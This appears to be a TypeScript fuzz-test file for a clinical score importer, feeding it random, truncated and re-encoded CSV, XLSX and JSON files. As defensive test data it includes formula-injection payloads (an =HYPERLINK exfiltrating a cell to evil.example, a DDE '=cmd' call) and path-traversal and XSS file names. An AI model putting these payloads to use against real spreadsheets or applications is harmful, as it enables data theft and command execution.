/**
 * Hostile and broken files (issue 7, promise 2): property-based tests that feed the importer random
 * and mutated CSV, XLSX and JSON. The boundary is `readTable` + `suggestMapping` + `applyMapping`
 * (what the import worker runs) and `importFile` (the same in steps). Whatever the bytes, the importer
 * either refuses the file with an `ImportError` whose message a person can read, or returns an
 * outcome whose report keeps `rows_read === rows_accepted + rows_rejected`; nothing else is thrown,
 * and the rejected-rows CSV never carries a live spreadsheet formula.
 *
 * Both import paths (issue 11): whenever a file can take the engine path (DuckDB's CSV reader and
 * set-based SQL, `importWithEngine`), it runs there too and must give the same refusal, the same
 * report and the same accepted rows as the JavaScript importer.
 *
 * Deterministic: every property runs with a fixed seed and a bounded `numRuns`; on failure fast-check
 * prints the seed and the shrunk counterexample. The per-case `timeout` only turns a hang into a
 * failure (it is far above any real case); nothing asserts how fast the importer is.
 */
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { tempDir } from './temp-dir';
import path from 'node:path';
import fc from 'fast-check';
import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { applyMapping, ImportError, importFile, readTable, rejectedRowsCsv, suggestMapping, type ImportOutcome, type RawTable } from '../../src/lib/import/index';
import { parseDelimited } from '../../src/lib/import/csv';
import { csvCell, safeFileName, toCsv } from '../../src/lib/export/csv';
import { root } from '../fixtures/import/helpers';
import { importWithEngine, prepareDelimited } from '../../src/lib/import/duck/index';
import { openNodeEngine, type NodeConnector } from '../../src/lib/engine/node';
import { sql } from '../../src/lib/engine/sql';

// Each CSV case also runs through the engine (a few dozen SQL statements): more time per property, as
// a hang guard only; nothing here measures speed.
vi.setConfig({ testTimeout: 900_000, hookTimeout: 300_000 });

let conn: NodeConnector;
beforeAll(async () => {
	conn = await openNodeEngine();
});
afterAll(() => conn?.close());
/** Files that took the DuckDB path, so a run shows the comparison really happened. */
const engineRuns = { duckdb: 0, javascript: 0 };

const SEED = 20261122;
/** fast-check settings shared by every property: fixed seed, bounded runs, a hang guard per case. */
const opts = (numRuns: number) => ({ seed: SEED, numRuns, timeout: 20_000, endOnFailure: true });

const enc = (s: string) => new TextEncoder().encode(s);
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i;

type Result = { kind: 'refused'; message: string } | { kind: 'imported'; raw: RawTable; outcome: ImportOutcome; csv: string };

/** A refusal must be our own error with a message a person can act on, never a stray TypeError or RangeError. */
function expectCleanRefusal(e: unknown): string {
	if (!(e instanceof ImportError)) throw new Error(`not an ImportError: ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`);
	expect(e.name).toBe('ImportError');
	expect(e.message.length).toBeGreaterThan(5);
	// "undefined"/"NaN"/"[object" in our part of a message means a code path forgot the user. A library's
	// detail after the first ": " (SheetJS, hyparquet) is passed on as it is.
	expect(e.message.split(': ')[0]).not.toMatch(/undefined|NaN|\[object /);
	return e.message;
}

/** No field of `csv` would be run by a spreadsheet: formula-leading text carries an apostrophe. */
function expectNeutralised(csv: string): void {
	for (const row of parseDelimited(csv, ',').rows)
		for (const field of row) {
			if (typeof field !== 'string' || !FORMULA.test(field)) continue;
			// Numbers (a JSON/xlsx -3) are written as numbers; anything else starting so is a formula.
			expect(NUMBER.test(field), `live formula cell in export: ${JSON.stringify(field.slice(0, 60))}`).toBe(true);
		}
}

function expectIdentity(o: ImportOutcome): void {
	const r = o.report;
	expect(r.rows_read).toBe(r.rows_accepted + r.rows_rejected);
	expect(r.rows_accepted).toBe(o.rows.length);
	expect(r.errors.length).toBe(r.rows_rejected);
}

/**
 * Run `bytes` through both entry points and check the boundary contract. `importFile` must agree with
 * the step-by-step path: same refusal, or the same report.
 */
async function boundary(bytes: Uint8Array, name: string): Promise<Result> {
	let raw: RawTable;
	try {
		raw = await readTable(bytes, name);
	} catch (e) {
		const message = expectCleanRefusal(e);
		let second: unknown = null;
		await importFile(bytes, name).catch((err) => (second = err));
		expect(expectCleanRefusal(second)).toBe(message);
		if (prepareDelimited(bytes, name).ok) {
			let third: unknown = null;
			await importWithEngine(conn, bytes, name, { table: 'fuzz' }).catch((err) => (third = err));
			expect(expectCleanRefusal(third)).toBe(message);
		}
		return { kind: 'refused', message };
	}
	// The suggested mapping is built from this very table, so applying it must never throw.
	const outcome = applyMapping(raw, suggestMapping(raw));
	expectIdentity(outcome);
	const csv = rejectedRowsCsv(raw, outcome.report);
	expectNeutralised(csv);
	const stepped = await importFile(bytes, name);
	expectIdentity(stepped);
	expect(stepped.report).toEqual(outcome.report);
	if (prepareDelimited(bytes, name).ok) await expectSameThroughEngine(bytes, name, outcome);
	return { kind: 'imported', raw, outcome, csv };
}

/** The engine path's report equals the JavaScript one (apart from naming its reader), and so do the rows. */
async function expectSameThroughEngine(bytes: Uint8Array, name: string, js: ImportOutcome): Promise<void> {
	const engine = await importWithEngine(conn, bytes, name, { table: 'fuzz' });
	const { reader, ...report } = engine.report;
	engineRuns[reader!.path]++;
	expect(report, `${reader?.path}: ${reader?.note}`).toEqual(js.report);
	expect(engine.unknownLabels).toEqual(js.unknownLabels);
	const rows = await conn.query(sql`SELECT * FROM fuzz`);
	expect(rows.length).toBe(js.rows.length);
	rows.forEach((row, i) => {
		const want = js.rows[i] as Record<string, unknown>;
		for (const [k, v] of Object.entries(row)) expect(v, `row ${i} ${k}`).toEqual(want[k] ?? null);
	});
}

// ---- generators ------------------------------------------------------------------------------

const HEADER = 'client_id,series,route,instrument,phase,session,week,score,site';
const ROUTES = ['iv', 'im', 'oral', 'intranasal', 'esketamine', 'teleport', ''];
const INSTRUMENTS = ['bdi2', 'phq9', 'gad7', 'madrs', 'hamd17', 'ham-a', 'xyz', ''];
const PHASES = ['baseline', 'session', 'followup', 'pre', '2m', 'nope', ''];
const TEXT = fc.oneof(
	fc.string({ maxLength: 12 }),
	fc.constantFrom('=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', '=cmd|\' /C calc\'!A0', 'Zürich', '"quoted, text"', 'a\nb', 'NA', '.', '-99')
);
const scoreRow = fc.tuple(
	fc.oneof(fc.constantFrom('C1', 'C2', 'C3', ''), TEXT),
	fc.constantFrom('1', '2', '0', '-1', 'x', ''),
	fc.oneof(fc.constantFrom(...ROUTES), TEXT),
	fc.oneof(fc.constantFrom(...INSTRUMENTS), TEXT),
	fc.oneof(fc.constantFrom(...PHASES), TEXT),
	fc.constantFrom('0', '1', '2', '-1', '1.5', ''),
	fc.constantFrom('', '0', '4', '-2', '2,5'),
	fc.oneof(fc.integer({ min: -5, max: 80 }).map(String), fc.constantFrom('', '12,5', '1e3', 'NaN', 'Infinity', '-0'), TEXT),
	TEXT
);
/** A plausible canonical CSV (some rows good, many not): the starting point for mutations. */
const validishCsv = fc.array(scoreRow, { minLength: 0, maxLength: 25 }).map((rows) => toCsv(rows.map((r) => Object.fromEntries(HEADER.split(',').map((h, i) => [h, r[i]]))), HEADER.split(',')).replaceAll("'", ''));

/** Byte-level damage: truncate, flip, delete, insert, duplicate a range. */
const mutation = fc.oneof(
	fc.record({ op: fc.constant('truncate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
	fc.record({ op: fc.constant('flip' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), byte: fc.integer({ min: 0, max: 255 }) }),
	fc.record({ op: fc.constant('delete' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), len: fc.integer({ min: 1, max: 64 }) }),
	fc.record({ op: fc.constant('insert' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), bytes: fc.uint8Array({ minLength: 1, maxLength: 32 }) }),
	fc.record({ op: fc.constant('insertText' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), text: fc.constantFrom('"', '\n', '\r', '\r\n', ',', ';', '\t', '\u0000', '"",', '\uFEFF', '\u00e9', '\uD800') }),
	fc.record({ op: fc.constant('duplicate' as const), at: fc.double({ min: 0, max: 1, noNaN: true }), len: fc.integer({ min: 1, max: 200 }) })
);
type Mutation = typeof mutation extends fc.Arbitrary<infer T> ? T : never;

function mutate(input: Uint8Array, muts: Mutation[]): Uint8Array {
	let b = input;
	for (const m of muts) {
		const at = Math.floor(m.at * b.length);
		switch (m.op) {
			case 'truncate':
				b = b.slice(0, at);
				break;
			case 'flip':
				b = b.slice();
				if (b.length) b[Math.min(at, b.length - 1)] = m.byte;
				break;
			case 'delete':
				b = new Uint8Array([...b.subarray(0, at), ...b.subarray(at + m.len)]);
				break;
			case 'insert':
				b = new Uint8Array([...b.subarray(0, at), ...m.bytes, ...b.subarray(at)]);
				break;
			case 'insertText':
				b = new Uint8Array([...b.subarray(0, at), ...enc(m.text), ...b.subarray(at)]);
				break;
			case 'duplicate':
				b = new Uint8Array([...b.subarray(0, at + m.len), ...b.subarray(at)]);
				break;
		}
	}
	return b;
}

const fileName = fc.constantFrom('scores.csv', 'scores.tsv', 'scores.txt', 'scores.dat', 'scores.json', 'scores.ndjson', 'scores.xlsx', 'scores', 'x.CSV');

// ---- properties --------------------------------------------------------------------------------

describe('random bytes', () => {
	it('any bytes under any name: a clean refusal or a report that adds up', async () => {
		await fc.assert(fc.asyncProperty(fc.uint8Array({ maxLength: 2048 }), fileName, async (bytes, name) => void (await boundary(bytes, name))), opts(300));
	});

	it('random bytes behind every magic number the sniffer knows (zip, Parquet, old Excel, JSON, BOMs)', async () => {
		const magic = fc.constantFrom([0x50, 0x4b, 0x03, 0x04], [0x50, 0x41, 0x52, 0x31], [0xd0, 0xcf, 0x11, 0xe0], [0x5b], [0x7b], [0xef, 0xbb, 0xbf], [0xff, 0xfe], [0xfe, 0xff], [0x1a], [0x00]);
		await fc.assert(
			fc.asyncProperty(magic, fc.uint8Array({ maxLength: 1024 }), fileName, async (m, rest, name) => void (await boundary(new Uint8Array([...m, ...rest]), name))),
			opts(300)
		);
	});
});

describe('mutated CSV', () => {
	it('plausible score files with good and bad rows: the report adds up and the rejected CSV is neutralised', async () => {
		await fc.assert(
			fc.asyncProperty(validishCsv, fc.constantFrom('scores.csv', 'scores.txt'), async (csv, name) => {
				const r = await boundary(enc(csv), name);
				if (r.kind === 'imported') {
					// every source row is accounted for at least once
					expect(r.outcome.report.rows_read).toBeGreaterThanOrEqual(r.raw.rows.length);
				}
			}),
			opts(200)
		);
	});

	it('the same files truncated, with bytes flipped, deleted, inserted or duplicated', async () => {
		await fc.assert(
			fc.asyncProperty(validishCsv, fc.array(mutation, { minLength: 1, maxLength: 6 }), fileName, async (csv, muts, name) => void (await boundary(mutate(enc(csv), muts), name))),
			opts(300)
		);
	});

	it('the same files re-encoded: UTF-16 LE/BE with and without BOM, Latin-1, CR-only and CRLF line ends', async () => {
		const encodings = fc.constantFrom('utf16le-bom', 'utf16le', 'utf16be-bom', 'latin1', 'cr', 'crlf', 'utf8-bom');
		await fc.assert(fc.asyncProperty(validishCsv, encodings, async (csv, e) => void (await boundary(encode(csv, e), 'scores.csv'))), opts(150));
	});
});

describe('mutated XLSX', () => {
	let workbook: Uint8Array;
	let stored: Uint8Array;
	beforeAll(() => {
		const rows = [
			HEADER.split(','),
			['C1', 1, 'iv', 'bdi2', 'baseline', 0, null, 30, 'North'],
			['C1', 1, 'iv', 'bdi2', 'session', 1, null, 99, '=HYPERLINK("http://evil.example","x")'],
			['', 1, 'iv', 'bdi2', 'session', 2, null, 12, '@SUM(A1)'],
			['C2', 1, 'teleport', 'phq9', 'baseline', 0, null, 20, '+1'],
			['C2', 1, 'im', 'phq9', 'session', -1, null, 20, '-1+1']
		];
		const wb = XLSX.utils.book_new();
		XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'Scores');
		// stored (no compression) and deflated: mutations hit XML text in one, compressed streams in the other
		workbook = new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx', compression: true }));
		stored = new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx', compression: false }));
	});

	it('the intact workbook imports, and formula-like text comes back neutralised', async () => {
		const r = await boundary(workbook, 'scores.xlsx');
		expect(r.kind).toBe('imported');
		if (r.kind !== 'imported') return;
		expect(r.outcome.report).toMatchObject({ rows_read: 5, rows_accepted: 1, rows_rejected: 4 });
		expect(r.csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
		expect(r.csv).toContain("'@SUM(A1)");
		expect(r.csv).toContain("'+1");
	});

	it('truncated, flipped, spliced workbooks: a clean refusal or a report that adds up', async () => {
		await fc.assert(
			fc.asyncProperty(fc.boolean(), fc.array(mutation, { minLength: 1, maxLength: 4 }), async (deflated, muts) => void (await boundary(mutate(deflated ? workbook : stored, muts), 'scores.xlsx'))),
			opts(150)
		);
	});

	it('every truncation point of the workbook', async () => {
		for (const book of [workbook, stored]) for (let cut = 1; cut < book.length; cut += 37) await boundary(book.subarray(0, cut), 'scores.xlsx');
	});
});

describe('JSON', () => {
	it('any JSON value as a file: refused cleanly or imported with a report that adds up', async () => {
		await fc.assert(fc.asyncProperty(fc.json({ depthSize: 'medium' }), async (text) => void (await boundary(enc(text), 'scores.json'))), opts(300));
	});

	it('arrays of records with arbitrary keys and values, whole or damaged', async () => {
		const record = fc.dictionary(fc.oneof(fc.constantFrom('client_id', 'instrument', 'phase', 'score', 'route', 'session', '__proto__', 'constructor', ''), fc.string({ maxLength: 8 })), fc.jsonValue({ maxDepth: 3 }), { maxKeys: 8 });
		await fc.assert(
			fc.asyncProperty(fc.array(record, { maxLength: 20 }), fc.array(mutation, { maxLength: 3 }), fc.boolean(), async (records, muts, ndjson) => {
				const text = ndjson ? records.map((r) => JSON.stringify(r)).join('\n') : JSON.stringify(records);
				await boundary(mutate(enc(text), muts), ndjson ? 'scores.ndjson' : 'scores.json');
			}),
			opts(200)
		);
	});

	it('nesting from 1 to 200 000 levels, as the file, inside a record, and as a header cell', async () => {
		const depth = fc.oneof(fc.integer({ min: 1, max: 100 }), fc.integer({ min: 1000, max: 200_000 }));
		const shape = fc.constantFrom('file', 'record', 'header', 'object');
		await fc.assert(fc.asyncProperty(depth, shape, async (d, s) => void (await boundary(enc(nested(d, s)), 'scores.json'))), opts(40));
	});
});

// ---- named cases from the issue -----------------------------------------------------------------

describe('named hostile files', () => {
	it('100 000 columns', async () => {
		const cols = Array.from({ length: 100_000 }, (_, i) => `c${i}`);
		const r = await boundary(enc(`client_id,${cols.join(',')}\nA1,${cols.map((_, i) => i).join(',')}\n`), 'wide.csv');
		expect(r.kind).toBe('imported');
	});

	it('a 10 MB field, quoted and unquoted', async () => {
		const big = 'x'.repeat(10_000_000);
		for (const field of [`"${big}"`, big, `"=${big}"`]) {
			const r = await boundary(enc(`client_id,instrument,phase,score\nA1,bdi2,baseline,${field}\n`), 'big.csv');
			expect(r.kind).toBe('imported');
			if (r.kind === 'imported') expect(r.outcome.report).toMatchObject({ rows_read: 1, rows_accepted: 0, rows_rejected: 1 });
		}
	});

	it('a huge JSON array of numbers and one of records', async () => {
		const numbers = await boundary(enc(JSON.stringify(Array.from({ length: 300_000 }, (_, i) => i))), 'n.json');
		expect(numbers).toMatchObject({ kind: 'refused', message: expect.stringMatching(/record/) });
		const recs = Array.from({ length: 20_000 }, (_, i) => ({ client_id: `C${i % 500}`, instrument: 'phq9', phase: 'session', session: i % 90, score: i % 30 }));
		const r = await boundary(enc(JSON.stringify(recs)), 'r.json');
		expect(r.kind).toBe('imported');
	});

	it('empty JSON shapes are refused with a message, not a mapping error about column "undefined"', async () => {
		for (const text of ['[]', '[{}]', '[[]]', '{"data":[]}', '[{},{}]', '[[],[1,2]]']) {
			const r = await boundary(enc(text), 'x.json');
			expect(r.kind, text).toBe('refused');
		}
	});

	it('formula strings come back neutralised in the rejected-rows CSV and in every CSV export', async () => {
		const evil = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+SUM(1,2)', '-1+2', '@cmd', '\t=1', '\r=1'];
		const lines = evil.map((e, i) => `C${i},iv,bdi2,baseline,0,,99,${csvCell(e).replace(/^"'/, '"').replace(/^'/, '')}`);
		const r = await boundary(enc(`client_id,route,instrument,phase,session,week,score,note\n${lines.join('\n')}\n`), 'evil.csv');
		expect(r.kind).toBe('imported');
		if (r.kind !== 'imported') return;
		expect(r.outcome.report.rows_rejected).toBe(evil.length); // 99 is out of range for BDI-II
		const back = parseDelimited(r.csv, ',').rows.slice(1).map((row) => row[7]);
		expect(back).toEqual(evil.map((e) => `'${e}`));
		// the app's export writer, property-wise: every formula-leading text is neutralised, nothing else changes
		fc.assert(
			fc.property(fc.string(), (s) => {
				const cell = csvCell(s);
				const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
				expect(unquoted).toBe(FORMULA.test(s) ? `'${s}` : s);
			}),
			{ seed: SEED, numRuns: 500 }
		);
		expectNeutralised(toCsv(evil.map((note) => ({ note, score: -3 }))));
	});

	it('NUL bytes: only NULs, NULs inside fields, NUL-padded file end', async () => {
		expect(await boundary(new Uint8Array(64), 'z.csv')).toMatchObject({ kind: 'refused', message: 'the file is empty' });
		const r = await boundary(enc('client_id,instrument,phase,score\nA\u00001,bdi2,baseline,3\nA2,bdi2,base\u0000line,4\n'), 'n.csv');
		expect(r.kind).toBe('imported');
		const padded = new Uint8Array([...enc('client_id,instrument,phase,score\nA1,bdi2,baseline,3\n'), ...new Uint8Array(100)]);
		expect(await boundary(padded, 'p.csv')).toMatchObject({ kind: 'imported', outcome: { report: { rows_read: 1, rows_accepted: 1 } } });
	});

	it('only a header, and an empty file', async () => {
		expect(await boundary(enc('client_id,instrument,phase,score\n'), 'h.csv')).toMatchObject({ kind: 'imported', outcome: { report: { rows_read: 0, rows_accepted: 0, rows_rejected: 0 } } });
		expect(await boundary(new Uint8Array(0), 'e.csv')).toMatchObject({ kind: 'refused', message: 'the file is empty' });
		expect(await boundary(enc(' \r\n\t\n'), 'e.csv')).toMatchObject({ kind: 'refused', message: 'the file is empty' });
	});

	it('CR-only, CRLF and LF line ends read the same rows', async () => {
		const text = 'client_id,instrument,phase,session,score\nA1,bdi2,baseline,0,30\nA1,bdi2,session,1,20\n';
		const reports = [];
		for (const e of ['lf', 'cr', 'crlf'] as const) {
			const r = await boundary(encode(text, e), 'l.csv');
			expect(r.kind).toBe('imported');
			if (r.kind === 'imported') reports.push(r.outcome.report.rows_accepted);
		}
		expect(reports).toEqual([2, 2, 2]);
	});

	it('wrong encodings: UTF-16 with a BOM reads as text, Latin-1 decodes as Windows-1252', async () => {
		const text = 'client_id,instrument,phase,session,score,site\nA1,bdi2,baseline,0,30,Zürich\n';
		for (const e of ['utf16le-bom', 'utf16be-bom', 'latin1'] as const) {
			const r = await boundary(encode(text, e), 'w.csv');
			expect(r.kind).toBe('imported');
			if (r.kind === 'imported') {
				expect(r.outcome.report.rows_accepted, e).toBe(1);
				expect(r.raw.rows[0][5], e).toBe('Zürich');
			}
		}
		// without a BOM, UTF-16 is not guessed; it must still end in a report or a clean refusal
		await boundary(encode(text, 'utf16le'), 'w.csv');
	});

	it('an Excel sheet whose dimension claims A1:XFD1048576 is read by its real cells, not by the claim', async () => {
		const r = await boundary(hugeDimensionXlsx(), 'dim.xlsx');
		expect(r).toMatchObject({ kind: 'imported', outcome: { report: { rows_read: 1, rows_accepted: 1 } } });
		if (r.kind === 'imported') expect(r.raw.columns).toEqual(['client_id', 'instrument', 'phase', 'score']);
	});

	it('an Excel sheet with real cells at A1 and XFD1048576 is refused with the limit stated', async () => {
		const book = workbookOf([['client_id', 'instrument', 'phase', 'score'], [null, null, null, null, 'far away']]);
		const far = patchSheetXml(book, (xml) =>
			xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>').replace('<row r="2"', '<row r="1048576"').replace('r="E2"', 'r="XFD1048576"')
		);
		const r = await boundary(far, 'far.xlsx');
		expect(r).toMatchObject({ kind: 'refused', message: expect.stringMatching(/1048576 rows × 16384 columns.*50,000,000 cells/) });
	});

	it('the command line (a separate process) finishes on the hostile files instead of hanging', () => {
		// A hang inside the importer blocks the test's own timers, so it is checked from outside.
		const dir = tempDir('kap-hostile-');
		const files = {
			'dim.xlsx': hugeDimensionXlsx(),
			'deep.json': enc(nested(200_000, 'file')),
			'deep-record.json': enc(nested(100_000, 'record')),
			// SheetJS's zip reader walks garbage offsets for minutes on a cut-short workbook
			'cut.xlsx': workbookOf([['client_id', 'score'], ['A1', 3]]).subarray(0, 30)
		};
		for (const [name, bytes] of Object.entries(files)) {
			const file = path.join(dir, name);
			writeFileSync(file, bytes);
			const run = spawnSync(process.execPath, [path.join(root, 'bin/kap-outcomes.js'), 'validate', file, '--json'], { timeout: 45_000, encoding: 'utf8' });
			expect(run.error?.message, `${name} hung`).toBeUndefined();
			expect(run.signal, name).toBeNull();
			expect([0, 1], `${name}: ${run.stderr}`).toContain(run.status);
			expect(run.stderr, name).not.toMatch(/RangeError|TypeError|at .*\.ts:/);
		}
	});
});

describe('both paths', () => {
	it('the DuckDB path really ran on the CSV cases above', () => {
		expect(engineRuns.duckdb).toBeGreaterThan(50);
	});
});

describe('safe download names', () => {
	it('any name (paths, markup, control characters, Unicode) becomes letters, digits, _ . - only, no leading dot', () => {
		fc.assert(
			fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom('../../etc/passwd', '..\\..\\x.csv', '<img src=x onerror=alert(1)>', '=cmd|calc', '.hidden', '', 'CON', 'résumé—final')), fc.constantFrom('csv', 'svg', 'png', 'json', '../x'), (name, ext) => {
				const out = safeFileName(name, ext);
				expect(out).toMatch(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,79}\.[A-Za-z0-9_]+$/);
				expect(out).not.toMatch(/[/\\]/);
			}),
			{ seed: SEED, numRuns: 500 }
		);
	});
});

describe('regressions found by these tests', () => {
	it('a CSV whose first column is named "PK…" is read as CSV, not taken for a zip workbook', async () => {
		const r = await boundary(enc('PKID,client_id,instrument,phase,score\n1,A1,phq9,baseline,12\n'), 'pk.csv');
		expect(r).toMatchObject({ kind: 'imported', raw: { format: 'csv' }, outcome: { report: { rows_accepted: 1 } } });
	});

	it('a cut-short workbook is refused at once, naming the damage', async () => {
		const book = workbookOf([['client_id', 'score'], ['A1', 3]]);
		for (const cut of [4, 30, 200, book.length - 30, book.length - 1])
			expect(await boundary(book.subarray(0, cut), 'cut.xlsx')).toMatchObject({ kind: 'refused', message: expect.stringMatching(/^could not read the Excel file: .*(cut short|damaged|outside)/) });
	});

	it('JSON rows after an array header must be arrays too', async () => {
		expect(await boundary(enc('[["client_id","score"],["A1",3],"A2"]'), 'a.json')).toMatchObject({ kind: 'refused', message: 'JSON: record 3 is not an array like the header row' });
	});

	it('JSON keys and header cells that are empty or nested get usable column names', async () => {
		const r = await boundary(enc('[{"":"A1","instrument":"phq9","phase":"baseline","score":3}]'), 'k.json');
		expect(r).toMatchObject({ kind: 'imported', raw: { columns: ['V1', 'instrument', 'phase', 'score'] }, outcome: { report: { rows_accepted: 1 } } });
		const h = await boundary(enc('[[[[1]],"score"],["A1",3]]'), 'h.json');
		expect(h).toMatchObject({ kind: 'imported', raw: { columns: ['[[1]]', 'score'] } });
	});

	it('UTF-16LE ending in a newline keeps its last field whole (the final 0A 00 was cut in half)', async () => {
		const r = await boundary(encode('client_id,instrument,phase,score\r\nA1,phq9,baseline,12\r\n', 'utf16le-bom'), 'u.csv');
		expect(r).toMatchObject({ kind: 'imported', outcome: { report: { rows_accepted: 1 } } });
		if (r.kind === 'imported') expect(r.outcome.rows[0].score).toBe(12);
	});
});

// ---- helpers -------------------------------------------------------------------------------------

function encode(text: string, e: 'utf16le-bom' | 'utf16le' | 'utf16be-bom' | 'latin1' | 'cr' | 'crlf' | 'lf' | 'utf8-bom'): Uint8Array {
	const utf16 = (s: string, be: boolean) => {
		const out = new Uint8Array(s.length * 2);
		for (let i = 0; i < s.length; i++) {
			const c = s.charCodeAt(i);
			out[2 * i + (be ? 1 : 0)] = c & 0xff;
			out[2 * i + (be ? 0 : 1)] = c >> 8;
		}
		return out;
	};
	switch (e) {
		case 'utf16le-bom':
			return new Uint8Array([0xff, 0xfe, ...utf16(text, false)]);
		case 'utf16le':
			return utf16(text, false);
		case 'utf16be-bom':
			return new Uint8Array([0xfe, 0xff, ...utf16(text, true)]);
		case 'latin1':
			return Uint8Array.from(text, (ch) => (ch.charCodeAt(0) < 256 ? ch.charCodeAt(0) : 0x3f));
		case 'cr':
			return enc(text.replace(/\r?\n/g, '\r'));
		case 'crlf':
			return enc(text.replace(/\r?\n/g, '\r\n'));
		case 'lf':
			return enc(text);
		case 'utf8-bom':
			return enc('\uFEFF' + text);
	}
}

/** JSON nested `d` levels deep: as the whole file, inside a record's value, as a header cell, or as objects. */
function nested(d: number, shape: string): string {
	const arr = '['.repeat(d) + ']'.repeat(d);
	if (shape === 'file') return arr;
	if (shape === 'record') return `[{"client_id":"A1","instrument":"phq9","phase":"baseline","score":3,"deep":${arr}}]`;
	if (shape === 'header') return `[["client_id",${arr}],["A1",1]]`;
	return `[{"client_id":"A1","x":${'{"a":'.repeat(d)}1${'}'.repeat(d)}}]`;
}

/** An .xlsx file (bytes) with one sheet holding `rows`. */
function workbookOf(rows: unknown[][]): Uint8Array {
	const wb = XLSX.utils.book_new();
	XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'S');
	return new Uint8Array(XLSX.write(wb, { type: 'array', bookType: 'xlsx' }));
}

/**
 * `book` with its first sheet's XML rewritten by `edit`. Done on the zip rather than through SheetJS's
 * writer, because the writer itself walks every cell of the declared range (and would hang here).
 */
function patchSheetXml(book: Uint8Array, edit: (xml: string) => string): Uint8Array {
	const zip = XLSX.CFB.read(book, { type: 'array' });
	const i = (zip.FullPaths as string[]).findIndex((p) => p.endsWith('xl/worksheets/sheet1.xml'));
	const entry = zip.FileIndex[i];
	entry.content = enc(edit(new TextDecoder().decode(entry.content)));
	entry.size = entry.content.length;
	return new Uint8Array(XLSX.CFB.write(zip, { fileType: 'zip', type: 'array' }));
}

/** A valid workbook whose sheet XML declares the whole Excel grid as its dimension but holds 8 cells. */
function hugeDimensionXlsx(): Uint8Array {
	const book = workbookOf([['client_id', 'instrument', 'phase', 'score'], ['A1', 'bdi2', 'baseline', 30]]);
	return patchSheetXml(book, (xml) => xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'));
}
